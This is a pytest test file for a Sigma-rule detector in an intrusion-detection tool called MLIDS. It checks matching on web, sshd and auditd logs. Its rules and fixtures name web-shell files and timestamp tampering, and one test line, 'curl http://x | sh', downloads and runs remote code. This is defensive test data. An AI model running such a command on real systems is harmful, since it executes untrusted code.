"""Sigma rules as a detector, on the formats that MLIDS has."""

import os
import time

import pytest

from mlids import registry
from mlids.detectors.sigma import Sigma
from mlids.errors import MLIDSError
from mlids.testing import check_detector, lines, run

CORPORA = os.environ.get("MLIDS_CORPORA")
WEB = """title: Shell in a path
id: web-shell
status: test
level: critical
tags: [attack.t1505.003]
logsource: {category: webserver}
detection:
  shell:
    cs-uri-stem|endswith: ['/c99.php', '/r57.php']
  own:
    c-ip|cidr: 10.0.0.0/8
  condition: shell and not own
"""
SSHD = """title: Server left in the middle
id: sshd-crash
level: medium
logsource: {product: linux, service: sshd}
detection:
  keywords: ['fatal: buffer_', 'Corrupted MAC']
  condition: keywords
---
title: Crashes of sshd
id: sshd-crashes
level: high
correlation:
  type: event_count
  rules: [sshd-crash]
  group-by: [host]
  timespan: 10m
  condition: {gte: 3}
"""
PROCESS = """title: Download that is run
id: curl-sh
level: high
logsource: {product: linux, category: process_creation}
detection:
  selection:
    CommandLine|contains|all: [curl, '| sh']
    ParentImage|endswith: /cron
  condition: selection
"""
AUDIT = """title: Time stamps are changed
id: touch
level: low
logsource: {product: linux, service: auditd}
detection:
  selection:
    type: EXECVE
    a0|endswith: touch
    a1: ['-r', '-t']
  condition: selection
"""


def form(name):
    return registry.plugin("formats", name)()


@pytest.fixture
def detector(tmp_path):
    def make(*texts, **options):
        for number, text in enumerate(texts):
            (tmp_path / f"rule{number}.yml").write_text(text)
        return lambda: Sigma(rules=[str(tmp_path)], **options)

    return make


def request(path, ip="192.0.2.7", second=45):
    return (
        f"{ip} - eve [13/Jan/2025:10:30:{second:02d} +0000] "
        f'"GET {path} HTTP/1.1" 200 512 "-" "curl/8.5"'
    )


def test_a_request_that_matches(detector):
    batch = lines(
        request("/index.php"),
        request("/up/c99.php?x=/r57.php"),
        request("/up/C99.PHP", ip="10.0.0.9"),
        request("/?next=/c99.php"),
        format=form("nginx"),
        source="access.log",
    )
    (event,) = check_detector(detector(WEB), batch)
    assert (event.type, event.severity) == ("Rule Match", "CRITICAL")
    assert event.rule == "sigma/web-shell"
    assert event.techniques == ["T1505.003"]
    assert (event.details["ip"], event.details["user"]) == ("192.0.2.7", "eve")
    assert event.evidence == [
        {"source": "access.log", "line": 2, "offset": len(request("/index.php")) + 1}
    ]
    assert event.details["metadata"]["fields"] == {"cs-uri-stem": "/up/c99.php"}


def test_keywords_of_one_program_and_their_correlation(detector):
    def crash(second, program="sshd", host="web1"):
        text = f"{program}[77]: fatal: buffer_get_string: bad string"
        return f"Jan 13 10:{second // 60:02d}:{second % 60:02d} {host} {text}"

    benign = "Jan 13 10:00:01 web1 sshd[7]: Accepted publickey for eve from 192.0.2.7 port 1 ssh2"
    make = detector(SSHD)
    two = lines(crash(0), benign, crash(9, "cron"), crash(601), format=form("auth"))
    assert check_detector(make, two) == []
    three = lines(crash(0), crash(300), crash(599), crash(600, host="web2"), format=form("auth"))
    (event,) = check_detector(make, three)
    assert event.rule == "sigma/sshd-crashes"
    assert event.details["metadata"]["observed"] == 3
    assert len(event.evidence) == 3


def audit(serial, pid, ppid, exe, *arguments):
    at = f"msg=audit(1736764245.{serial:03d}:{serial})"
    coded = " ".join(f"a{n}={text.encode().hex().upper()}" for n, text in enumerate(arguments))
    return [
        f"type=SYSCALL {at}: arch=c000003e syscall=59 success=yes exit=0 ppid={ppid} pid={pid}"
        f' auid=1000 uid=0 comm="x" exe="{exe}" key=(null)',
        f"type=EXECVE {at}: argc={len(arguments)} {coded}",
        f'type=CWD {at}: cwd="/root"',
        f"type=PROCTITLE {at}: proctitle=6C73",
    ]


def test_processes_are_put_together_over_lines_and_cuts(detector):
    shell = ("sh", "-c", "curl http://x | sh")
    batch = lines(
        *audit(1, 50, 1, "/usr/sbin/cron", "cron"),
        *audit(2, 51, 50, "/bin/sh", *shell),
        *audit(3, 52, 7, "/bin/sh", *shell),
        format=form("auditd"),
        source="audit.log",
    )
    (event,) = check_detector(detector(PROCESS), batch)
    assert event.source == "host"
    assert event.details["user"] == "root"
    assert event.details["metadata"]["fields"]["CommandLine"] == " ".join(shell)
    assert [place["line"] for place in event.evidence] == [6, 5, 7]


def test_records_of_the_audit_log(detector):
    batch = lines(
        *audit(1, 50, 1, "/bin/touch", "touch", "-r", "/etc/passwd"),
        *audit(2, 51, 1, "/bin/touch", "touch", "x"),
        format=form("auditd"),
    )
    (event,) = check_detector(detector(AUDIT, PROCESS), batch)
    assert event.rule == "sigma/touch"


def test_without_rules_nothing_is_done():
    detector = Sigma()
    assert tuple(detector.inspect(lines("x", format=form("app")))) == ()
    assert detector.save() == {}
    assert tuple(detector.flush()) == ()
    assert detector.counts() == {}
    detector.restore({})


def test_a_folder_that_does_not_exist_is_e007():
    with pytest.raises(MLIDSError) as caught:
        Sigma(rules=["/nowhere/sigma"])
    assert caught.value.code == "E007"


def test_sources_say_what_a_log_is(detector):
    rule = (
        "title: Login to the decoy\nid: decoy\nlevel: high\n"
        "logsource: {product: opencanary, category: application}\n"
        "detection:\n  selection:\n    logtype: 4002\n  condition: selection\n"
    )
    batch = lines(
        '{"logtype": 4002, "src_host": "192.0.2.7", "logdata": {"USERNAME": "root"}}',
        '{"logtype": 40021}',
        format=form("json_lines"),
        source="/var/tmp/canary.log",
    )
    blind = run(detector(rule)(), [batch])
    assert [event.type for event in blind] == ["Monitoring Gap"]
    own = [{"input": "*/canary.log", "product": "opencanary", "category": "application"}]
    (event,) = check_detector(detector(rule, sources=own), batch)
    assert event.details["ip"] == "192.0.2.7"
    with pytest.raises(ValueError, match="source names"):
        detector(rule, sources=[{"product": "x"}])()


def test_placeholders_and_levels(detector):
    rule = WEB.replace("['/c99.php', '/r57.php']", "'%shells%'").replace(
        "endswith:", "endswith|expand:"
    )
    batch = lines(request("/mine.php"), format=form("nginx"))
    make = detector(rule, placeholders={"shells": ["/mine.php"]})
    assert len(check_detector(make, batch)) == 1
    make = detector(WEB.replace("critical", "low"), min_level="high")
    assert check_detector(make, lines(request("/c99.php"), format=form("nginx"))) == []


def test_a_flood_of_matches_is_held_to_the_limit_whatever_the_cut(detector):
    batch = lines(*(request("/c99.php", second=n % 60) for n in range(40)), format=form("nginx"))
    found = check_detector(detector(WEB, limit_per_minute=5), batch)
    assert len(found) == 6
    assert sum(event.details.get("suppressed", 0) for event in found) == 34


def test_hostile_lines_never_raise(detector):
    junk = [
        b"", b"\x00\xff\xfe", b"\xc3\x28", b"{" * 2000, b"[" * 5000, b'{"a":' * 900, b"x" * 100_000,
        b'{"eventName": "\\ud800", "x": [[[[1]]]]}', b"type=EXECVE msg=audit(1.1:1): a0=" + b"F" * 9,
        b"\\x", b'\\u12 "', "\u212a\u0130\u017f".encode(), b"Jan 13 10:30:45 a sshd[1]: \xff",
    ]  # fmt: skip
    make = detector(WEB, SSHD, PROCESS, AUDIT)
    for name in ("nginx", "auth", "auditd", "json_lines", "cloudtrail", "k8s_audit", "zeek", "app"):
        check_detector(make, lines(*junk, format=form(name)), pieces=(1, 3))


@pytest.mark.skipif(not CORPORA, reason="MLIDS_CORPORA is not set")
def test_464_rules_take_little_time():
    detector = Sigma(rules=[f"{CORPORA}/sigma"])
    texts = [request(f"/p/{n}?q={n}", ip=f"198.51.100.{n % 200}") for n in range(3000)]
    batch = lines(*texts, format=form("nginx"))
    list(detector.inspect(batch.take([0])))
    began = time.process_time()
    assert not [event for event in detector.inspect(batch) if event.severity != "LOW"]
    assert len(texts) / (time.process_time() - began) > 5_000  # ten times that on a quiet machine
